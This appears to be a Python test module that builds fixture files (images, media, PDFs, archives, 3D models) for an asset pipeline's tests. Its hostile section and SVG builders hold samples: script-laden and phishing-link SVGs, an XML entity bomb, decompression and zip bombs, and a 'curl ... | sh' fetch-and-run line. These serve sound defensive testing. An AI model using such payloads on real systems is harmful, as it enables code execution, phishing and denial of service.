"""Test files made on the fly, one builder per kind, each returning the file's bytes.

Reusable by integration and end-to-end tests (`from tests.unit.imaging import corpus`). Builders are
cached: bytes are immutable, and the same file is often wanted by several tests.
Heavy builders import PyAV / pillow-heif inside, so importing this module stays cheap.
"""

from __future__ import annotations

import io
import json
import math
import struct
import wave
import zipfile
import zlib
from functools import lru_cache
from typing import Any

from PIL import Image, ImageDraw, ImageOps

RED = (220, 30, 30)
BLUE = (30, 60, 220)

# --- raster images ---------------------------------------------------------------------------------------


def photo_image(width: int, height: int) -> Image.Image:
    """A colourful picture with edges and grain, so it compresses and resamples like a photo."""
    ramp = Image.linear_gradient("L")
    red = Image.radial_gradient("L").resize((width, height), Image.Resampling.BILINEAR)
    green = ramp.resize((width, height), Image.Resampling.BILINEAR)
    blue = ImageOps.mirror(ramp.rotate(90)).resize((width, height), Image.Resampling.BILINEAR)
    image = Image.merge("RGB", (red, green, blue))
    draw = ImageDraw.Draw(image)
    for i in range(12):
        x, y = (i * 7919) % width, (i * 104729) % height
        r = max(2, min(width, height) // (5 + i % 4))
        colour = ((i * 67) % 256, (i * 151) % 256, (i * 37) % 256)
        if i % 2:
            draw.ellipse((x - r, y - r, x + r, y + r), fill=colour)
        else:
            draw.rectangle((x - r, y - r // 2, x + r, y + r // 2), fill=colour)
    grain = Image.effect_noise((width, height), 18).convert("RGB")
    return Image.blend(image, grain, 0.12)


def _save(image: Image.Image, fmt: str, **params: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, fmt, **params)
    return buffer.getvalue()


def _exif(orientation: int | None, camera: bool) -> Image.Exif:
    exif = Image.Exif()
    if orientation is not None:
        exif[0x0112] = orientation
    if camera:
        exif[0x010F] = "Fujifilm"
        exif[0x0110] = "X-T5"
        exif.get_ifd(0x8769)[0x9003] = "2025:06:01 18:30:05"
        exif.get_ifd(0x8769)[0x9011] = "+02:00"
        gps = exif.get_ifd(0x8825)
        gps[1], gps[2] = "N", (48.0, 51.0, 29.0)
        gps[3], gps[4] = "E", (2.0, 17.0, 40.0)
    return exif


@lru_cache(maxsize=32)
def jpeg_photo(width: int = 640, height: int = 480, orientation: int | None = None, camera: bool = False) -> bytes:
    """A JPEG photo. The stored pixels have a red block in their top-left corner, so a test can tell
    where it ends up once the EXIF `orientation` is applied. `camera` adds make/model/date and GPS."""
    image = photo_image(width, height)
    ImageDraw.Draw(image).rectangle((0, 0, width // 4, height // 4), fill=RED)
    return _save(image, "JPEG", quality=90, exif=_exif(orientation, camera).tobytes())


@lru_cache(maxsize=8)
def png_photo(width: int = 640, height: int = 480) -> bytes:
    return _save(photo_image(width, height), "PNG", compress_level=1)


@lru_cache(maxsize=8)
def png_alpha(width: int = 400, height: int = 300) -> bytes:
    """RGBA PNG: an opaque blue disc on a fully transparent background (corners are transparent)."""
    image = photo_image(width, height).convert("RGBA")
    mask = Image.new("L", (width, height), 0)
    ImageDraw.Draw(mask).ellipse((width // 8, height // 8, width * 7 // 8, height * 7 // 8), fill=255)
    image.putalpha(mask)
    return _save(image, "PNG", compress_level=1)


@lru_cache(maxsize=4)
def png16(width: int = 256, height: int = 128) -> bytes:
    """A 16-bit greyscale PNG: a left-to-right ramp over the whole 0–65535 range."""
    row = b"".join(struct.pack("<H", x * 65535 // (width - 1)) for x in range(width))
    image = Image.frombytes("I;16", (width, height), row * height)
    return _save(image, "PNG")


@lru_cache(maxsize=2)
def palette_png_transparent() -> bytes:
    """Palette PNG whose index 0 is transparent: left half transparent, right half red."""
    image = Image.new("P", (64, 32), 0)
    image.putpalette([0, 0, 0, *RED] + [0] * (254 * 3))
    ImageDraw.Draw(image).rectangle((32, 0, 63, 31), fill=1)
    return _save(image, "PNG", transparency=0)


@lru_cache(maxsize=2)
def cmyk_jpeg(width: int = 120, height: int = 80) -> bytes:
    """A CMYK JPEG (as print workflows export): pure red (0% cyan, 100% magenta and yellow)."""
    return _save(Image.new("CMYK", (width, height), (0, 255, 255, 0)), "JPEG", quality=95)


@lru_cache(maxsize=2)
def srgb_tagged_jpeg() -> bytes:
    from PIL import ImageCms

    profile = ImageCms.ImageCmsProfile(ImageCms.createProfile("sRGB")).tobytes()
    return _save(photo_image(160, 120), "JPEG", quality=90, icc_profile=profile)


@lru_cache(maxsize=4)
def webp_photo(width: int = 2400, height: int = 1600, orientation: int | None = None, alpha: bool = False) -> bytes:
    """A lossy WebP photo with the red top-left block of `jpeg_photo`; `alpha` makes its left edge a
    transparent band."""
    image = photo_image(width, height)
    ImageDraw.Draw(image).rectangle((0, 0, width // 4, height // 4), fill=RED)
    if alpha:
        image.putalpha(255)
        ImageDraw.Draw(image).rectangle((0, 0, width // 16, height), fill=(0, 0, 0, 0))
    return _save(image, "WEBP", quality=85, exif=_exif(orientation, False).tobytes())


@lru_cache(maxsize=2)
def webp_rgba(width: int = 200, height: int = 100) -> bytes:
    """Lossless RGBA WebP: left half transparent, right half opaque blue."""
    image = Image.new("RGBA", (width, height), (0, 0, 0, 0))
    ImageDraw.Draw(image).rectangle((width // 2, 0, width, height), fill=(*BLUE, 255))
    return _save(image, "WEBP", lossless=True)


def _frames(count: int, size: tuple[int, int]) -> list[Image.Image]:
    colours = [RED, BLUE, (30, 200, 60), (240, 200, 20)]
    return [Image.new("RGB", size, colours[i % len(colours)]) for i in range(count)]


@lru_cache(maxsize=2)
def animated_gif(frames: int = 3) -> bytes:
    first, *rest = _frames(frames, (48, 32))
    return _save(first, "GIF", save_all=True, append_images=rest, duration=100, loop=0)


@lru_cache(maxsize=2)
def animated_webp(frames: int = 3) -> bytes:
    first, *rest = _frames(frames, (48, 32))
    return _save(first, "WEBP", save_all=True, append_images=rest, duration=100, loop=0)


@lru_cache(maxsize=2)
def gif(width: int = 64, height: int = 48) -> bytes:
    return _save(photo_image(width, height).convert("P"), "GIF")


@lru_cache(maxsize=2)
def bmp(width: int = 90, height: int = 60) -> bytes:
    return _save(photo_image(width, height), "BMP")


@lru_cache(maxsize=4)
def heic(width: int = 96, height: int = 64, orientation: int | None = None) -> bytes:
    import pillow_heif

    pillow_heif.register_heif_opener()
    image = photo_image(width, height)
    ImageDraw.Draw(image).rectangle((0, 0, width // 4, height // 4), fill=RED)
    return _save(image, "HEIF", quality=80, exif=_exif(orientation, False).tobytes())


@lru_cache(maxsize=2)
def truncated_jpeg() -> bytes:
    """A JPEG cut off halfway through its picture data, as an interrupted upload leaves it."""
    data = jpeg_photo(640, 480)
    return data[: len(data) // 2]


def _png_chunk(kind: bytes, payload: bytes) -> bytes:
    return struct.pack(">I", len(payload)) + kind + payload + struct.pack(">I", zlib.crc32(kind + payload))


@lru_cache(maxsize=4)
def png_bomb(width: int = 20_000, height: int = 20_000) -> bytes:
    """A few hundred bytes whose header claims width × height pixels (a decompression bomb)."""
    header = struct.pack(">IIBBBBB", width, height, 8, 0, 0, 0, 0)
    pixels = zlib.compress(b"\x00" * (width + 1) * 4, 9)  # a few rows; nothing should ever read them
    return b"\x89PNG\r\n\x1a\n" + _png_chunk(b"IHDR", header) + _png_chunk(b"IDAT", pixels) + _png_chunk(b"IEND", b"")


@lru_cache(maxsize=2)
def gif_huge_dimensions(width: int = 60_000, height: int = 60_000) -> bytes:
    """A tiny GIF whose screen and frame both claim width × height: refuse it before decoding."""
    screen = b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + b"\x00\x00\x00\xff\xff\xff"
    frame = b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x44\x01\x00"
    return screen + frame + b";"


# --- SVG --------------------------------------------------------------------------------------------------


def svg_allow_list_escapes() -> bytes:
    """What a deny-list misses: animating a (prefixed) link to a URL, unknown elements, foreign namespaces,
    handlers spelled unusually, and external references in attributes that are not `href`."""
    return b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     xmlns:ev="http://www.w3.org/2001/xml-events" xmlns:evil="urn:evil" width="100" height="100">
  <a xlink:href="#ok"><rect id="ok" width="100" height="100" fill="#dc1e1e"/>
    <animate attributeName="xlink:href" values="https://phish.example/login" begin="0s"/>
    <animate attributeName="href" values="https://phish.example/a;https://phish.example/b"/>
    <set attributeName="xlink:href" to="https://phish.example/set"/>
    <animate attributeName="onclick" to="alert(1)"/>
    <animate attributeName="opacity" from="1" to="0.5" dur="1s"/>
  </a>
  <discard begin="0s"/>
  <cursor xlink:href="https://tracker.example/cursor.png"/>
  <font-face><font-face-src><font-face-uri xlink:href="https://tracker.example/font.svg"/></font-face-src></font-face>
  <evil:payload>https://tracker.example/ns</evil:payload>
  <rect width="10" height="10" evil:href="https://tracker.example/ns-attr" ev:event="click" ONCLICK="alert(2)"/>
  <use xlink:href="https://tracker.example/sprite.svg#icon"/>
  <feImage href="https://tracker.example/filter.png"/>
</svg>"""


def svg_simple() -> bytes:
    return (
        b'<?xml version="1.0" encoding="UTF-8"?>\n'
        b'<svg xmlns="http://www.w3.org/2000/svg" width="200" height="100" viewBox="0 0 200 100">'
        b'<rect width="200" height="100" fill="#dc1e1e"/><circle cx="150" cy="50" r="30" fill="#1e3cdc"/></svg>'
    )


def svg_with_script() -> bytes:
    """An SVG logo carrying every trick: script, onload, a javascript: link, embedded HTML, an external
    image and an animation that rewrites a link into a script."""
    return b"""<?xml version="1.0" encoding="UTF-8"?>
<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
     width="120" height="120" viewBox="0 0 120 120" onload="alert('onload')">
  <script type="text/javascript">alert('script')</script>
  <defs><linearGradient id="g"><stop offset="0" stop-color="#dc1e1e"/></linearGradient></defs>
  <rect width="120" height="120" fill="url(#g)" onclick="alert('click')"/>
  <a xlink:href="javascript:alert('link')"><circle cx="60" cy="60" r="20" fill="#1e3cdc"/></a>
  <a href="#g"><rect x="0" y="0" width="1" height="1"/></a>
  <image href="https://tracker.example/pixel.png" width="1" height="1"/>
  <foreignObject width="100" height="100"><body xmlns="http://www.w3.org/1999/xhtml"><iframe src="x"/></body>
  </foreignObject>
  <set attributeName="href" to="javascript:alert('set')"/>
</svg>"""


def svg_entity_bomb() -> bytes:
    return b"""<?xml version="1.0"?>
<!DOCTYPE svg [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">]>
<svg xmlns="http://www.w3.org/2000/svg"><text>&b;</text></svg>"""


# --- video and audio (PyAV encodes them) -----------------------------------------------------------------


def _tone(samples: int, rate: int) -> bytes:
    return b"".join(struct.pack("<h", int(8000 * math.sin(2 * math.pi * 440 * i / rate))) for i in range(samples))


def _add_audio(out: Any, codec: str, rate: int) -> Any:
    stream = out.add_stream(codec, rate=rate)
    stream.layout = "mono"
    return stream


def _mux_audio(out: Any, stream: Any, seconds: float, rate: int) -> None:
    import av

    frame_size = stream.codec_context.frame_size or 1024
    total = int(seconds * rate)
    for start in range(0, total, frame_size):
        frame = av.AudioFrame(format="s16", layout="mono", samples=frame_size)
        frame.planes[0].update(_tone(frame_size, rate))
        frame.sample_rate, frame.pts = rate, start
        for packet in stream.encode(frame):
            out.mux(packet)
    for packet in stream.encode(None):
        out.mux(packet)


def _video(
    container: str,
    codec: str,
    *,
    size: tuple[int, int] = (64, 48),
    seconds: float = 1.0,
    fps: int = 10,
    audio: str | None = None,
    rotation: int | None = None,
    options: dict[str, str] | None = None,
) -> bytes:
    """`seconds` of video whose frames change colour (red first) with a moving white bar."""
    import av

    buffer = io.BytesIO()
    with av.open(buffer, mode="w", format=container) as out:
        stream: Any = out.add_stream(codec, rate=fps, options=options or {})
        stream.width, stream.height = size
        stream.pix_fmt = "yuvj420p" if codec == "mjpeg" else "yuv420p"
        if rotation is not None:
            stream.set_display_rotation(rotation)
        sound = _add_audio(out, audio, 48000 if audio == "libopus" else 44100) if audio else None
        for index in range(int(seconds * fps)):
            image = Image.new("RGB", size, [RED, BLUE][index * 2 // int(seconds * fps)])
            x = index * size[0] // int(seconds * fps)
            ImageDraw.Draw(image).rectangle((x, 0, x + 4, size[1]), fill=(255, 255, 255))
            frame = av.VideoFrame.from_image(image)
            frame.pts = index
            for packet in stream.encode(frame):
                out.mux(packet)
        for packet in stream.encode(None):
            out.mux(packet)
        if sound is not None:
            _mux_audio(out, sound, seconds, sound.codec_context.sample_rate)
    return buffer.getvalue()


@lru_cache(maxsize=4)
def tiny_mp4(with_audio: bool = True, rotation: int | None = None, size: tuple[int, int] = (64, 48)) -> bytes:
    """1 s of H.264 (10 fps, 64×48), with an AAC audio track unless `with_audio` is False."""
    return _video("mp4", "libx264", audio="aac" if with_audio else None, rotation=rotation, size=size)


@lru_cache(maxsize=2)
def tiny_mov() -> bytes:
    return _video("mov", "mjpeg")


@lru_cache(maxsize=2)
def tiny_webm() -> bytes:
    return _video("webm", "libvpx", audio="libopus")


@lru_cache(maxsize=2)
def tiny_mkv() -> bytes:
    return _video("matroska", "mpeg4")


@lru_cache(maxsize=2)
def tiny_avi() -> bytes:
    return _video("avi", "mpeg4")


def _audio(container: str, codec: str, rate: int = 44100, seconds: float = 1.0) -> bytes:
    import av

    buffer = io.BytesIO()
    with av.open(buffer, mode="w", format=container) as out:
        stream = _add_audio(out, codec, rate)
        _mux_audio(out, stream, seconds, rate)
    return buffer.getvalue()


@lru_cache(maxsize=2)
def tiny_wav(seconds: float = 1.0, rate: int = 16000) -> bytes:
    """PCM WAV (stdlib wave): a 440 Hz tone, mono."""
    buffer = io.BytesIO()
    with wave.open(buffer, "wb") as out:
        out.setnchannels(1)
        out.setsampwidth(2)
        out.setframerate(rate)
        out.writeframes(_tone(int(seconds * rate), rate))
    return buffer.getvalue()


@lru_cache(maxsize=2)
def tiny_mp3() -> bytes:
    return _audio("mp3", "libmp3lame")


@lru_cache(maxsize=2)
def mp3_with_cover() -> bytes:
    """1 s of MP3 with album art (a 120×120 JPEG, red block top-left) muxed in as an attached picture."""
    import av

    buffer = io.BytesIO()
    with av.open(buffer, mode="w", format="mp3") as out:
        sound = _add_audio(out, "libmp3lame", 44100)
        cover: Any = out.add_stream("mjpeg")
        cover.width = cover.height = 120
        cover.pix_fmt = "yuvj420p"
        cover.disposition = av.stream.Disposition.attached_pic
        packet = av.Packet(jpeg_photo(120, 120))
        packet.stream, packet.pts, packet.dts = cover, 0, 0
        out.mux(packet)
        _mux_audio(out, sound, 1.0, 44100)
    return buffer.getvalue()


@lru_cache(maxsize=2)
def tiny_ogg() -> bytes:
    return _audio("ogg", "libopus", rate=48000)


@lru_cache(maxsize=2)
def tiny_m4a() -> bytes:
    return _audio("ipod", "aac")  # ffmpeg's "ipod" muxer writes the M4A brand


@lru_cache(maxsize=2)
def tiny_aac() -> bytes:
    return _audio("adts", "aac")


@lru_cache(maxsize=2)
def tiny_flac() -> bytes:
    return _audio("flac", "flac")


# --- documents --------------------------------------------------------------------------------------------


def _pdf_file(objects: list[bytes]) -> bytes:
    """Numbered objects (the first the catalog), a cross-reference table and a trailer."""
    out = bytearray(b"%PDF-1.4\n%\xe2\xe3\xcf\xd3\n")
    offsets = []
    for number, body in enumerate(objects, start=1):
        offsets.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    xref = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % offset for offset in offsets)
    out += b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, xref)
    return bytes(out)


@lru_cache(maxsize=4)
def minimal_pdf(pages: int = 1, width: int = 612, height: int = 792) -> bytes:
    """A hand-written PDF: each page white with a red rectangle over its middle third."""
    box = f"{width // 3} {height // 3} {width // 3} {height // 3}"
    content = f"0.86 0.12 0.12 rg {box} re f".encode()
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    kids = " ".join(f"{3 + 2 * i} 0 R" for i in range(pages))
    objects.append(f"<< /Type /Pages /Kids [{kids}] /Count {pages} >>".encode())
    for i in range(pages):
        page = f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 {width} {height}] /Contents {4 + 2 * i} 0 R >>"
        objects.append(page.encode())
        objects.append(b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream")
    return _pdf_file(objects)


def text_pdf(pages: list[str]) -> bytes:
    """A hand-written PDF with one line of Helvetica text on each page (a real text layer)."""
    font = len(pages) * 2 + 3
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    kids = " ".join(f"{3 + 2 * i} 0 R" for i in range(len(pages)))
    objects.append(f"<< /Type /Pages /Kids [{kids}] /Count {len(pages)} >>".encode())
    for i, line in enumerate(pages):
        resources = f"/Resources << /Font << /F1 {font} 0 R >> >>"
        page = f"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] {resources} /Contents {4 + 2 * i} 0 R >>"
        objects.append(page.encode())
        content = f"BT /F1 18 Tf 72 700 Td ({line}) Tj ET".encode()
        objects.append(b"<< /Length %d >>\nstream\n" % len(content) + content + b"\nendstream")
    objects.append(b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>")
    return _pdf_file(objects)


def _rc4(key: bytes, data: bytes) -> bytes:
    box = list(range(256))
    j = 0
    for i in range(256):
        j = (j + box[i] + key[i % len(key)]) % 256
        box[i], box[j] = box[j], box[i]
    out, i, j = bytearray(), 0, 0
    for byte in data:
        i = (i + 1) % 256
        j = (j + box[i]) % 256
        box[i], box[j] = box[j], box[i]
        out.append(byte ^ box[(box[i] + box[j]) % 256])
    return bytes(out)


@lru_cache(maxsize=1)
def encrypted_pdf(password: bytes = b"secret") -> bytes:
    """A PDF that opens only with a password (standard security handler, revision 2, RC4 40-bit)."""
    import hashlib

    pad = bytes.fromhex("28bf4e5e4e758a4164004e56fffa01082e2e00b6d0683e802f0ca9fe6453697a")
    padded = (password + pad)[:32]
    owner = _rc4(hashlib.md5(padded).digest()[:5], padded)
    file_id, permissions = b"0123456789abcdef", struct.pack("<i", -4)
    key = hashlib.md5(padded + owner + permissions + file_id).digest()[:5]
    user = _rc4(key, pad)
    plain = minimal_pdf()
    trailer = plain.rindex(b"trailer")
    encrypt = b"/Encrypt << /Filter /Standard /V 1 /R 2 /O <%s> /U <%s> /P -4 >> /ID [<%s> <%s>]" % (
        owner.hex().encode(),
        user.hex().encode(),
        file_id.hex().encode(),
        file_id.hex().encode(),
    )
    return plain[:trailer] + plain[trailer:].replace(b"/Root 1 0 R", b"/Root 1 0 R " + encrypt)


def corrupt_pdf() -> bytes:
    """A PDF header over bytes that are no PDF at all (a download cut short and padded with junk)."""
    return b"%PDF-1.7\n" + bytes((i * 151 + 7) % 256 for i in range(4096))


def zip_of(entries: dict[str, bytes], compression: int = zipfile.ZIP_DEFLATED) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", compression) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


_CONTENT_TYPES = b'<?xml version="1.0"?><Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types"/>'


@lru_cache(maxsize=2)
def docx(pages: int = 3) -> bytes:
    app = (
        '<?xml version="1.0"?><Properties xmlns="http://schemas.openxmlformats.org/officeDocument/2006/'
        f'extended-properties"><Pages>{pages}</Pages><Words>420</Words></Properties>'
    ).encode()
    return zip_of(
        {
            "[Content_Types].xml": _CONTENT_TYPES,
            "_rels/.rels": b"<Relationships/>",
            "word/document.xml": b"<w:document xmlns:w='urn:w'><w:body/></w:document>",
            "docProps/app.xml": app,
        }
    )


@lru_cache(maxsize=2)
def pptx(slides: int = 2) -> bytes:
    entries = {"[Content_Types].xml": _CONTENT_TYPES, "ppt/presentation.xml": b"<p:presentation xmlns:p='urn:p'/>"}
    entries |= {f"ppt/slides/slide{i}.xml": b"<p:sld xmlns:p='urn:p'/>" for i in range(1, slides + 1)}
    entries["ppt/slides/_rels/slide1.xml.rels"] = b"<Relationships/>"
    return zip_of(entries)


@lru_cache(maxsize=2)
def xlsx(sheets: int = 2) -> bytes:
    entries = {"[Content_Types].xml": _CONTENT_TYPES, "xl/workbook.xml": b"<workbook/>"}
    entries |= {f"xl/worksheets/sheet{i}.xml": b"<worksheet/>" for i in range(1, sheets + 1)}
    return zip_of(entries)


@lru_cache(maxsize=2)
def zip_archive() -> bytes:
    return zip_of(
        {
            "photos/": b"",
            "photos/a.jpg": jpeg_photo(64, 48),
            "photos/b.jpg": jpeg_photo(48, 64),
            "notes.txt": b"hello\n",
            "brief.pdf": minimal_pdf(),
        }
    )


@lru_cache(maxsize=2)
def zip_bomb(megabytes: int = 8) -> bytes:
    """One entry of zeros: ~1000× compression, the shape of a zip bomb (scaled down)."""
    return zip_of({"zeros.bin": b"\x00" * megabytes * 1024 * 1024})


def corrupt_zip() -> bytes:
    return b"PK\x03\x04" + b"\x14\x00" + bytes(range(200))


# --- text -------------------------------------------------------------------------------------------------


def csv_table(rows: int = 150, delimiter: str = ",") -> bytes:
    lines = [delimiter.join(["id", "name", "price"])]
    lines += [delimiter.join([str(i), f"Item {i}", f"{i * 1.5:.2f}"]) for i in range(1, rows + 1)]
    return ("\n".join(lines) + "\n").encode()


def markdown() -> bytes:
    return b"# Campaign brief\n\n- Hero shot: **red** sneaker\n- Background: beach at dusk\n"


def plain_text(lines: int = 3) -> bytes:
    return "".join(f"Line {i}: café ☕\n" for i in range(1, lines + 1)).encode()


def utf16_text() -> bytes:
    return "Notes\nCafé ☕\n".encode("utf-16")


def cp1252_csv() -> bytes:
    return "name;city\nRené;Orléans\n".encode("cp1252")


def json_doc() -> bytes:
    return b'{"title": "Spring campaign", "tags": ["red", "beach"], "count": 3}\n'


def xml_doc() -> bytes:
    return b'<?xml version="1.0"?>\n<!-- export -->\n<catalog><item id="1">Sneaker</item></catalog>\n'


def yaml_doc() -> bytes:
    return b"title: Spring campaign\ntags:\n  - red\n  - beach\n"


def srt() -> bytes:
    return (
        b"1\n00:00:01,000 --> 00:00:02,500\nHello there.\n\n"
        b"2\n00:00:03,000 --> 00:00:04,000\nGeneral Kenobi.\n\n"
        b"3\n00:00:05,000 --> 00:00:06,000\nBye.\n"
    )


def vtt() -> bytes:
    return b"WEBVTT\n\n00:00.000 --> 00:01.000\nHello\n\n00:01.000 --> 00:02.000\nWorld\n"


# --- 3D models -------------------------------------------------------------------------------------------

# A unit cube from (0, 0, 0) to (2, 1, 3): 8 corners, 12 triangles.
CUBE_SIZE = (2.0, 1.0, 3.0)
_CUBE_CORNERS = [(x, y, z) for x in (0.0, 2.0) for y in (0.0, 1.0) for z in (0.0, 3.0)]
_CUBE_QUADS = [(0, 1, 3, 2), (4, 6, 7, 5), (0, 4, 5, 1), (2, 3, 7, 6), (0, 2, 6, 4), (1, 5, 7, 3)]


def glb_file(document: dict[str, Any], binary: bytes = b"") -> bytes:
    """A GLB container around a glTF JSON document and a BIN chunk, both padded to 4 bytes as glTF asks."""
    text = json.dumps(document).encode()
    text += b" " * (-len(text) % 4)
    chunks = struct.pack("<I4s", len(text), b"JSON") + text
    if binary:
        binary += b"\x00" * (-len(binary) % 4)
        chunks += struct.pack("<I4s", len(binary), b"BIN\x00") + binary
    return struct.pack("<4sII", b"glTF", 2, 12 + len(chunks)) + chunks


def glb_cube(materials: tuple[str, ...] = ("Paint", "Chrome")) -> bytes:
    """A real cube: float positions and ushort indices in the BIN chunk, POSITION with min/max."""
    positions = b"".join(struct.pack("<3f", *corner) for corner in _CUBE_CORNERS)
    triangles = [i for a, b, c, d in _CUBE_QUADS for i in (a, b, c, a, c, d)]
    indices = struct.pack(f"<{len(triangles)}H", *triangles)
    document = {
        "asset": {"version": "2.0", "generator": "dam tests"},
        "scene": 0,
        "scenes": [{"nodes": [0]}],
        "nodes": [{"mesh": 0, "name": "Cube"}],
        "buffers": [{"byteLength": len(positions) + len(indices)}],
        "bufferViews": [
            {"buffer": 0, "byteOffset": 0, "byteLength": len(positions), "target": 34962},
            {"buffer": 0, "byteOffset": len(positions), "byteLength": len(indices), "target": 34963},
        ],
        "accessors": [
            {
                "bufferView": 0,
                "componentType": 5126,
                "count": len(_CUBE_CORNERS),
                "type": "VEC3",
                "min": [0.0, 0.0, 0.0],
                "max": list(CUBE_SIZE),
            },
            {"bufferView": 1, "componentType": 5123, "count": len(triangles), "type": "SCALAR"},
        ],
        "meshes": [{"name": "Cube", "primitives": [{"attributes": {"POSITION": 0}, "indices": 1, "material": 0}]}],
        "materials": [{"name": name} for name in materials],
    }
    return glb_file(document, positions + indices)


def obj_cube() -> bytes:
    """The same cube as Wavefront OBJ text: quads, two materials from a library."""
    lines = ["# cube exported by the tests", "mtllib cube.mtl", "o Cube"]
    lines += [f"v {x:.1f} {y:.1f} {z:.1f}" for x, y, z in _CUBE_CORNERS]
    lines += ["vn 0 0 1", "vt 0 0"]
    for number, quad in enumerate(_CUBE_QUADS):
        if number in (0, 3):
            lines.append("usemtl " + ("Paint" if number == 0 else "Chrome"))
        lines.append("f " + " ".join(f"{i + 1}//1" for i in quad))
    return ("\n".join(lines) + "\n").encode()


# --- hostile ----------------------------------------------------------------------------------------------


def html_page() -> bytes:
    return b"<!DOCTYPE html>\n<html><head><title>x</title></head><body><script>alert(1)</script></body></html>\n"


def windows_exe() -> bytes:
    return b"MZ\x90\x00\x03\x00\x00\x00\x04\x00\x00\x00\xff\xff\x00\x00" + b"\x00" * 48 + b"This program cannot be run"


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl http://example.invalid | sh\n"


def random_binary(size: int = 2048) -> bytes:
    return bytes((i * 131 + (i >> 3) * 17 + 5) % 256 for i in range(size))


def tiff() -> bytes:
    return _save(Image.new("RGB", (8, 8), RED), "TIFF")


@lru_cache(maxsize=8)
def tiff_photo(
    width: int = 1600, height: int = 1200, mode: str = "RGB", pages: int = 1, orientation: int | None = None
) -> bytes:
    """An LZW TIFF of `jpeg_photo`'s picture (red block top-left) in `mode` (RGB, RGBA with a transparent
    left band, CMYK, I;16 grey); `pages` adds quarter-turned copies as further pages."""
    image = photo_image(width, height)
    ImageDraw.Draw(image).rectangle((0, 0, width // 4, height // 4), fill=RED)
    if mode == "RGBA":
        image.putalpha(255)
        ImageDraw.Draw(image).rectangle((0, 0, width // 16, height), fill=(0, 0, 0, 0))
    elif mode == "I;16":
        image = image.convert("L").convert("I").point(lambda value: value * 257).convert("I;16")
    else:
        image = image.convert(mode)
    more = [image.rotate(90, expand=True) for _ in range(pages - 1)]
    tags = {0x0112: orientation} if orientation else {}
    return _save(image, "TIFF", compression="tiff_lzw", save_all=True, append_images=more, tiffinfo=tags)


def camera_raw_tiff(tag: int, value: object, mode: str = "RGB") -> bytes:
    """A TIFF whose first directory carries `tag`: what marks a camera RAW file (DNGVersion, or a
    NewSubfileType saying the first image is a reduced-resolution preview). Pillow writes mode I;16B in
    Motorola byte order (MM), every other mode in Intel order (II)."""
    from PIL import TiffImagePlugin

    info = TiffImagePlugin.ImageFileDirectory_v2()
    info[tag] = value
    return _save(Image.new(mode, (16, 12)), "TIFF", tiffinfo=info)


def canon_cr2() -> bytes:
    """The first bytes of a Canon CR2: a little-endian TIFF header, then "CR" and version 2.0."""
    return b"II*\x00\x10\x00\x00\x00CR\x02\x00" + bytes(range(256)) * 8
